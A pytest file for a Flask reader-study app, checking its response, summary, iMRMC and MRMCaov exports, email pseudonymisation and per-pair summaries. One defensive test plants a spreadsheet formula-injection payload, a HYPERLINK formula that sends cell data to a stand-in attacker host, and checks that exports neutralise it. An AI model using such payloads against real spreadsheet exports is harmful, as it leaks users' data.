"""The downloads: responses, summary, iMRMC and MRMCaov files (SQLite and PostgreSQL).

The study is answered through the survey's pages by the `answered` fixture of
test_dashboard.py: two readers, 10 cases each, both tasks; the summaries of each pair of a
three-condition study by `three_arms` (a crossover read by three readers).
"""

import csv
import io
import json
import re
import subprocess
import sys
from collections import Counter
from collections.abc import Callable
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select
from werkzeug.test import TestResponse

from app.analysis import COLUMNS, analyse, responses_from_columns, responses_from_rows
from app.analysis.files import PLACEHOLDER_CASE
from app.extensions import db
from app.models import Answer, Assignment, Case, Role, Study, User
from app.organiser import study_results
from app.organiser.exports import (
    IMRMC_PLACEHOLDERS,
    MRMCAOV_COLUMNS,
    RESPONSE_COLUMNS,
    SUMMARY_COLUMNS,
    analysis_columns,
    response_rows,
)
from app.survey.conditions import Condition
from studybundle.taxonomy import LIKERT
from tests.app.conftest import FakeClock, StudyRef, UserRef, add_user, join_study
from tests.app.reading import answer, assignments_of, consent, set_design
from tests.app.results import Answered, Shown, answer_study, page, wrong_for

ROOT = Path(__file__).resolve().parents[3]


@pytest.fixture
def answered(
    app: Flask, client: FlaskClient, study: StudyRef, reader: UserRef, clock: FakeClock
) -> Answered:
    """Two readers who completed both tasks of `study` (see test_dashboard.PLAN)."""
    return answer_study(app, client, study, reader)


def download(client: FlaskClient, study: StudyRef, name: str, **args: str) -> TestResponse:
    """GET one export (asserting 200 and an attachment named after the study id, and the pair
    of conditions when one was chosen)."""
    response = client.get(f"/dashboard/{study.id}/export/{name}", query_string=args)
    assert response.status_code == 200
    disposition = response.headers["Content-Disposition"]
    match = re.fullmatch(
        r'attachment; filename="study-(\d+)-([a-z0-9_-]+)\.(csv|json|imrmc|R)"', disposition
    )
    assert match, disposition
    assert int(match.group(1)) == study.id
    return response


def csv_rows(response: TestResponse) -> tuple[list[str], list[dict[str, str]]]:
    """Header and rows of a CSV download."""
    reader = csv.DictReader(io.StringIO(response.get_data(as_text=True)))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


def test_responses_csv_has_every_answer_and_no_email(shown: Shown, login: Callable) -> None:
    client, organiser, answered = shown.client(), shown.organiser, shown.answered
    login(client, organiser)
    response = download(client, answered.study, "responses")
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    columns, rows = csv_rows(response)
    assert columns == list(RESPONSE_COLUMNS)
    assert set(COLUMNS) <= set(columns)
    assert len(rows) == 40
    assert "@" not in response.get_data(as_text=True)
    given = Counter(answered.answers)
    stored = Counter(
        (r["reader"], r["image_id"], int(r["task"]), r["truth"], r["diagnosis"]) for r in rows
    )
    assert stored == given
    task2 = [r for r in rows if r["task"] == "2"]
    assert all(len(r["neighbours_shown"].split(";")) == 6 for r in task2)
    assert {r["rotation"] for r in task2} == {"180"}
    assert all(r["neighbours_shown"] == "" for r in rows if r["task"] == "1")
    assert all(
        re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", r["answered_at"]) for r in rows
    )
    assert {r["confidence"] for r in task2} == {"4"}
    assert all(float(r["seconds"]) >= 0 for r in rows)


def test_identify_adds_readers_emails(shown: Shown, login: Callable) -> None:
    client, organiser, answered = shown.client(), shown.organiser, shown.answered
    login(client, organiser)
    columns, rows = csv_rows(download(client, answered.study, "responses", identify="1"))
    assert columns[-1] == "reader_email"
    emails = {user.pseudonym: user.email for user in answered.readers.values()}
    assert all(row["reader_email"] == emails[row["reader"]] for row in rows)
    summary = download(client, answered.study, "summary-csv", identify="1")
    assert answered.readers["first"].email in summary.get_data(as_text=True)
    for name in ("summary-csv", "summary-json", "imrmc", "mrmcaov", "mrmcaov-r"):
        assert "@" not in download(client, answered.study, name).get_data(as_text=True), name


def test_the_analysis_command_reads_the_responses_export(
    shown: Shown, login: Callable, tmp_path: Path
) -> None:
    client, organiser, answered = shown.client(), shown.organiser, shown.answered
    login(client, organiser)
    path = tmp_path / "export.csv"
    path.write_bytes(download(client, answered.study, "responses").data)
    run = subprocess.run(
        [sys.executable, "-m", "app.analysis", str(path), "--json", "--levels", "5"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )
    assert run.returncode == 0, run.stderr
    # The same analysis as the JSON download (same bootstrap size and seed). Only the names
    # differ, and the sentences that use them (the headline's, the descriptions of the pair's
    # figures): the download names the study's conditions ("SE-CBIR 6"), the command, which
    # reads only the CSV, by their keys; and the scale's labels, which the download has from
    # the study and the CSV does not hold.
    summary = download(client, answered.study, "summary-json")
    assert summary.mimetype == "application/json"
    from_command, downloaded = json.loads(run.stdout), json.loads(summary.get_data(as_text=True))
    assert downloaded["names"]["se_cbir"] == "SE-CBIR 6"
    assert from_command["names"]["se_cbir"] == "se_cbir"
    assert downloaded["pair"] == {
        "first": "unaided",
        "second": "se_cbir",
        "names": ["Unaided", "SE-CBIR 6"],
    }
    assert from_command["pair"]["names"] == ["unaided", "se_cbir"]
    assert downloaded["scale"] == {"levels": 5, "labels": list(LIKERT)}
    assert from_command["scale"] == {"levels": 5, "labels": []}
    for result in (from_command, downloaded):
        result.pop("names")
        result["pair"].pop("names")
        result.pop("scale")
        for line in result["headline"]:
            line.pop("sentence")
        for section in (
            result["changes"],
            result["statistics"]["wilcoxon_confidence"],
            result["statistics"]["bootstrap"],
        ):
            section.pop("description")
    assert from_command == downloaded
    assert json.loads(run.stdout)["pooled"]["task2"]["accuracy"] == 0.7


def test_summary_csv_is_table_4_ii(shown: Shown, login: Callable) -> None:
    client, organiser, answered = shown.client(), shown.organiser, shown.answered
    login(client, organiser)
    columns, rows = csv_rows(download(client, answered.study, "summary-csv"))
    assert columns == list(SUMMARY_COLUMNS)
    assert [r["row"] for r in rows] == ["reader", "reader", "pooled", "mean", "sd"]
    by_reader = {r["reader"]: r for r in rows if r["row"] == "reader"}
    first = by_reader[answered.readers["first"].pseudonym]
    assert (float(first["task1_accuracy"]), float(first["task2_accuracy"])) == (0.5, 0.8)
    assert first["task1_answers"] == "10" and first["cases"] == "10"
    pooled, sd = rows[2], rows[4]
    assert (float(pooled["task1_accuracy"]), float(pooled["task2_accuracy"])) == (0.55, 0.7)
    assert abs(float(sd["task1_accuracy"]) - 0.0707107) < 1e-6
    # Every row names the two conditions its task1/task2 columns hold (here the only two).
    named = {
        (r["task1_condition"], r["task1_name"], r["task2_condition"], r["task2_name"]) for r in rows
    }
    assert named == {("unaided", "Unaided", "se_cbir", "SE-CBIR 6")}


def test_imrmc_file_structure(shown: Shown, login: Callable) -> None:
    client, organiser, answered = shown.client(), shown.organiser, shown.answered
    login(client, organiser)
    response = download(client, answered.study, "imrmc")
    assert response.mimetype == "text/plain"
    lines = response.get_data(as_text=True).splitlines()
    begin = lines.index("BEGIN DATA:")
    header, data = lines[:begin], lines[begin + 1 :]
    images = sorted({image for _, image, *_ in answered.answers})
    sizes = {line[:3]: int(line[3:]) for line in header if line[:3] in ("N0:", "N1:", "NR:", "NM:")}
    assert sizes == {"N0:": IMRMC_PLACEHOLDERS, "N1:": len(images), "NR:": 2, "NM:": 2}
    # iMRMC reads a size from any header line that contains one of these tokens.
    assert sum(any(t in line.upper() for t in ("N0:", "N1:", "NR:", "NM:")) for line in header) == 4
    rows = [line.split(",") for line in data]
    assert all(len(row) == 4 and all(field == field.strip() for field in row) for row in rows)
    truth = [row for row in rows if row[0] == "-1"]
    assert all(row[2] == "0" for row in truth)
    assert sorted(row[3] for row in truth) == ["0"] * IMRMC_PLACEHOLDERS + ["1"] * len(images)
    assert len({row[1] for row in truth}) == len(truth)  # each case's truth exactly once
    diseased = {row[1] for row in truth if row[3] == "1"}
    reads = [row for row in rows if row[0] != "-1"]
    real = [row for row in reads if row[1] in diseased]
    placeholder = [row for row in reads if row[1] not in diseased]
    # One row per reader x case x modality: 2 readers x 10 cases x 2 tasks, no repeats.
    assert len(real) == 40
    assert len({tuple(row[:3]) for row in real}) == 40
    assert {row[2] for row in real} == {"1", "2"}
    assert {row[3] for row in real} <= {"0", "1"}
    assert len(placeholder) == 2 * 2 * IMRMC_PLACEHOLDERS
    assert {row[3] for row in placeholder} == {"0.5"}
    # Every number is a whole number, as RJafroc's reader needs; scores add up to the rights.
    assert all(row[0].lstrip("-").isdigit() and row[1].isdigit() for row in rows)
    right_by_task = Counter(row[2] for row in real if row[3] == "1")
    assert right_by_task == {"1": 11, "2": 14}


def test_mrmcaov_table(shown: Shown, login: Callable) -> None:
    client, organiser, answered = shown.client(), shown.organiser, shown.answered
    login(client, organiser)
    columns, rows = csv_rows(download(client, answered.study, "mrmcaov"))
    assert columns == list(MRMCAOV_COLUMNS)
    real = [r for r in rows if r["case"] != PLACEHOLDER_CASE]
    placeholders = [r for r in rows if r["case"] == PLACEHOLDER_CASE]
    assert len(real) == 40
    assert len({(r["reader"], r["case"], r["test"]) for r in real}) == 40
    assert {r["test"] for r in rows} == {"unaided", "se_cbir"}
    assert {r["truth"] for r in real} == {"1"}
    # One truth-0 row per reader x test: binary_sens needs two truth levels to load.
    assert sorted((r["reader"], r["test"]) for r in placeholders) == sorted(
        (user.pseudonym, test)
        for user in answered.readers.values()
        for test in ("unaided", "se_cbir")
    )
    assert {(r["truth"], r["rating"]) for r in placeholders} == {("0", "0")}
    first = answered.readers["first"].pseudonym
    rights = Counter((r["reader"], r["test"]) for r in real if r["rating"] == "1")
    assert (rights[(first, "unaided")], rights[(first, "se_cbir")]) == (5, 8)
    assert all(r["rating"] == str(int(r["truth_class"] == r["diagnosis"])) for r in real)
    script = download(client, answered.study, "mrmcaov-r").get_data(as_text=True)
    assert f'"study-{answered.study.id}-mrmcaov.csv"' in script
    assert "mrmc(binary_sens(truth, rating), test, reader, case, data = df)" in script


def test_csv_cells_cannot_run_as_spreadsheet_formulas(
    app: Flask, client: FlaskClient, organiser: UserRef, answered: Answered, login: Callable
) -> None:
    """An e-mail address or image id starting with = + - @ reaches no spreadsheet as a formula."""
    first = answered.readers["first"]
    with app.app_context():
        user = db.session.get(User, first.id)
        user.email = '=HYPERLINK("http://evil.example/?"&A1)@example.org'
        answered_image = answered.answers[0][1]
        case = db.session.scalars(
            select(Case).where(Case.study_id == answered.study.id, Case.image_id == answered_image)
        ).one()
        case.image_id = "-2+3"
        image = case.image_id
        db.session.commit()
    login(client, organiser)
    for name in ("responses", "summary-csv", "mrmcaov"):
        text = download(client, answered.study, name, identify="1").get_data(as_text=True)
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], name
        if name != "summary-csv":
            assert "'" + image in cells, name
        assert any(c.startswith("'=HYPERLINK") for c in cells), name


def test_exports_of_a_study_without_answers(
    client: FlaskClient, organiser: UserRef, study: StudyRef, login: Callable
) -> None:
    login(client, organiser)
    columns, rows = csv_rows(download(client, study, "responses"))
    assert columns == list(RESPONSE_COLUMNS) and rows == []
    result = json.loads(download(client, study, "summary-json").get_data(as_text=True))
    assert result["pooled"]["task1"]["answers"] == 0
    assert "BEGIN DATA:" in download(client, study, "imrmc").get_data(as_text=True)
    assert csv_rows(download(client, study, "mrmcaov"))[1] == []
    assert "library(MRMCaov)" in download(client, study, "mrmcaov-r").get_data(as_text=True)


def test_response_rows_filters(shown: Shown) -> None:
    app, answered = shown.app, shown.answered
    first = answered.readers["first"]
    with app.app_context():
        study = db.session.get(Study, answered.study.id)
        assert len(response_rows(study)) == 40
        mine = response_rows(study, reader=first.pseudonym)
        assert len(mine) == 20 and {row["reader"] for row in mine} == {first.pseudonym}
        assert len(response_rows(study, completed_only=True)) == 40
        assert "reader_email" not in response_rows(study)[0]
        assert response_rows(study, pseudonymise=False)[0]["reader_email"].endswith("@example.org")
        # Ordered by reader, then task, then the position the reader saw.
        keys = [(r["reader"], r["task"], r["position"]) for r in response_rows(study)]
        assert keys == sorted(keys)


def test_the_dashboards_columns_are_the_responses_rows_with_probes_last(
    app: Flask, answered: Answered
) -> None:
    # analysis_columns reads numbers and looks the texts up; row for row it must be the
    # responses export: readers by pseudonym, tasks, positions, then the probes in that order.
    first = answered.readers["first"]
    with app.app_context():
        study = db.session.get(Study, answered.study.id)
        assignments = db.session.scalars(
            select(Assignment).join(Answer).order_by(Assignment.id)
        ).all()
        for assignment in assignments[3::7]:  # some readings of each reader and task
            assignment.probe = True
            shown = {**assignment.answer.shown, "probe": True, "probe_class": "bcc"}
            assignment.answer.shown = shown
        db.session.commit()
        for filters in ({}, {"reader": first.pseudonym}, {"completed_only": True}):
            rows = response_rows(study, **filters)
            rows = [r for r in rows if not r["probe"]] + [r for r in rows if r["probe"]]
            columns = analysis_columns(study, **filters)
            assert sum(columns["probe"]) == sum(1 for r in rows if r["probe"]) > 0
            for name, values in columns.items():
                expected = [row[name] for row in rows]
                assert [str(v) for v in values] == [str(v) for v in expected], name


def test_the_dashboards_columns_analyse_like_the_responses_rows(shown: Shown) -> None:
    app, answered = shown.app, shown.answered
    # The dashboard reads fewer columns, column by column, the profiles once per reader; the
    # analysis must come out the same as from the exported rows (probes left out).
    first = answered.readers["first"]
    with app.app_context():
        study = db.session.get(Study, answered.study.id)
        for filters in ({}, {"reader": first.pseudonym}, {"completed_only": True}):
            rows = response_rows(study, **filters)  # probes too, marked
            columns = analysis_columns(study, **filters)
            assert {name: len(values) for name, values in columns.items()} == {
                name: len(rows) for name in columns
            }
            assert analyse(responses_from_columns(columns), bootstrap=50) == analyse(
                responses_from_rows(rows), bootstrap=50
            )


# ---------------------------------------------------------------- one summary per pair

ARMS = [Condition(), Condition("se_cbir", 3, labelled=False), Condition("se_cbir", 6)]
KEYS = [arm.key for arm in ARMS]  # unaided, se_cbir_k3_unlabelled, se_cbir
ARM_CASES = 6
# Per reader, how many of their cases (ranked by image id) they get right under each
# condition, and the confidence they give there: every pair of conditions differs.
SKILL = [
    {"unaided": 2, "se_cbir_k3_unlabelled": 4, "se_cbir": 5},
    {"unaided": 3, "se_cbir_k3_unlabelled": 1, "se_cbir": 6},
    {"unaided": 1, "se_cbir_k3_unlabelled": 2, "se_cbir": 4},
]
CONFIDENCE = {"unaided": 2, "se_cbir_k3_unlabelled": 3, "se_cbir": 5}


@pytest.fixture
def three_arms(app: Flask, client: FlaskClient, study: StudyRef) -> dict[str, UserRef]:
    """A three-arm crossover (unaided, SE-CBIR 3 unlabelled, SE-CBIR 6) that three readers
    read through the survey's pages, as SKILL and CONFIDENCE say (reader key -> reader).

    Each reader meets the conditions in another order, so the file's second condition is not
    the same as any one pair's second: a summary that took "the first two conditions" shows.
    """
    set_design(
        app,
        study,
        "crossover",
        [arm.to_json() for arm in ARMS],
        cases_per_reader=ARM_CASES,
        washout_hours=0.0,
    )
    people = {}
    for index, skill in enumerate(SKILL):
        person = add_user(app, f"arm{index}@example.org", Role.READER)
        join_study(app, person, study)
        client.post("/logout")
        client.post("/login", data={"email": person.email, "password": person.password})
        consent(client, study.id)
        plan = assignments_of(app, person)
        with app.app_context():
            cases = db.session.execute(select(Case.id, Case.truth, Case.image_id)).all()
        truths = {case_id: truth for case_id, truth, _ in cases}
        images = {case_id: image for case_id, _, image in cases}
        ranked = sorted({images[case_id] for _, _, case_id, _, _ in plan})
        for task, position, case_id, condition, _ in plan:
            key = KEYS[condition]
            right = ranked.index(images[case_id]) < skill[key]
            truth = truths[case_id]
            given = truth if right else wrong_for(truth)
            response = answer(client, study.id, task, position + 1, given, CONFIDENCE[key])
            assert response.status_code == 303, response.get_data(as_text=True)
        people[person.pseudonym] = person
    client.post("/logout")
    return people


def reader_cells(html: str) -> dict[str, list[str]]:
    """The page's Table 4.II: reader (or "Pooled") -> its cells after the name."""
    table = re.search(r'id="reader-table">(.*?)</table>', html, re.S).group(1)
    rows = re.findall(r'<th scope="row">([^<]+)</th>(.*?)</tr>', table, re.S)
    return {name: re.findall(r"<td>(.*?)</td>", cells) for name, cells in rows}


def as_percent(cell: str) -> str:
    """A summary CSV fraction as the page prints it ("71.4%")."""
    return f"{float(cell) * 100:.1f}%"


def test_each_pair_has_its_own_summary_with_the_pages_figures(
    client: FlaskClient,
    organiser: UserRef,
    three_arms: dict[str, UserRef],
    study: StudyRef,
    login: Callable,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The summary CSV and JSON of `?pair=a~b` hold what the page shows for that pair, named
    by the pair: three pairs, three different files; the primary result is the same in all.
    One analysis holds every pair: switching pairs analyses nothing again."""
    runs = []

    def counted(*args: object, **kwargs: object) -> object:
        runs.append(kwargs.get("bootstrap"))
        return analyse(*args, **kwargs)

    monkeypatch.setattr(study_results, "analyse", counted)
    login(client, organiser)
    names = dict(zip(KEYS, ("Unaided", "SE-CBIR 3 unlabelled", "SE-CBIR 6"), strict=True))
    skills = {name: SKILL[i] for i, name in enumerate(three_arms)}
    pairs = [("unaided", "se_cbir_k3_unlabelled"), ("unaided", "se_cbir")]
    pairs.append(("se_cbir_k3_unlabelled", "se_cbir"))
    files: dict[str, set[bytes]] = {"summary-csv": set(), "summary-json": set()}
    primary = []
    for first, second in pairs:
        value = f"{first}~{second}"
        html = page(client, study, pair=value)
        # The page's download links carry the pair.
        for name in files:
            href = re.search(rf'href="([^"]*export/{name}[^"]*)"', html).group(1)
            assert f"pair={first}~{second}" in href.replace("%7E", "~"), href

        csv_download = download(client, study, "summary-csv", pair=value)
        assert f"summary-{first}-vs-{second}.csv" in csv_download.headers["Content-Disposition"]
        json_download = download(client, study, "summary-json", pair=value)
        files["summary-csv"].add(csv_download.data)
        files["summary-json"].add(json_download.data)
        columns, rows = csv_rows(csv_download)
        result = json.loads(json_download.get_data(as_text=True))
        assert columns == list(SUMMARY_COLUMNS)
        assert result["pair"] == {
            "first": first,
            "second": second,
            "names": [names[first], names[second]],
        }
        primary.append(result["statistics"]["or_hillis"])

        cells = reader_cells(html)
        for row in rows:
            # Every row names the pair, by key and by the name the page shows.
            assert (row["task1_condition"], row["task2_condition"]) == (first, second)
            assert (row["task1_name"], row["task2_name"]) == (names[first], names[second])
        by_reader = {row["reader"]: row for row in rows if row["row"] == "reader"}
        readers = {r["reader"]: r for r in result["readers"]}
        assert set(by_reader) == set(readers) == set(three_arms)
        for reader, skill in skills.items():
            row, shown = by_reader[reader], cells[reader]
            # What the reader did under each condition of the pair, in the file and on the page.
            expected = (skill[first] / ARM_CASES, skill[second] / ARM_CASES)
            assert (float(row["task1_accuracy"]), float(row["task2_accuracy"])) == pytest.approx(
                expected, abs=1e-6
            )
            assert (shown[2], shown[6]) == (
                as_percent(row["task1_accuracy"]),
                as_percent(row["task2_accuracy"]),
            )
            assert (readers[reader]["task1"]["accuracy"], readers[reader]["task2"]["accuracy"]) == (
                pytest.approx(expected[0]),
                pytest.approx(expected[1]),
            )
            assert float(row["task2_confidence"]) == CONFIDENCE[second]
            # Every condition's figures, whatever the pair.
            for key in KEYS:
                figures = readers[reader]["conditions"][key]
                assert figures["accuracy"] == pytest.approx(skill[key] / ARM_CASES)
                assert figures["answers"] == ARM_CASES
        pooled = next(row for row in rows if row["row"] == "pooled")
        assert (cells["Pooled"][2], cells["Pooled"][6]) == (
            as_percent(pooled["task1_accuracy"]),
            as_percent(pooled["task2_accuracy"]),
        )

        # The secondary figures on the page are the download's.
        changes = result["changes"]
        ups = sum(max(s[second] - s[first], 0) for s in SKILL)
        downs = sum(max(s[first] - s[second], 0) for s in SKILL)
        assert (changes["wrong_to_correct"], changes["correct_to_wrong"]) == (ups, downs)
        assert f"Wrong → right</dt><dd>{ups} " in html
        mcnemar = result["statistics"]["mcnemar"]["pooled"]
        assert (
            f"All readers pooled: {mcnemar['correct_to_wrong']} right → wrong, "
            f"{mcnemar['wrong_to_correct']} wrong → right"
        ) in html
        wilcoxon = result["statistics"]["wilcoxon_confidence"]
        assert wilcoxon["pairs"] == 3 * ARM_CASES
        rise = CONFIDENCE[second] - CONFIDENCE[first]
        assert wilcoxon["mean_difference"] == rise
        assert f"mean change {rise:.2f}" in html
        gain = result["statistics"]["bootstrap"]["difference"]["estimate"]
        assert gain == pytest.approx(sum(s[second] - s[first] for s in SKILL) / 3 / ARM_CASES)
        assert f"Gain {gain * 100:+.1f} pp" in html
        assert names[second] in result["statistics"]["bootstrap"]["description"]

    assert len(files["summary-csv"]) == len(files["summary-json"]) == 3
    assert primary[0] == primary[1] == primary[2]  # every condition, whatever the pair
    # Once for the page's bootstrap and once for the downloads', not once per pair.
    assert sorted(runs) == sorted(set(runs)) and len(runs) <= 2
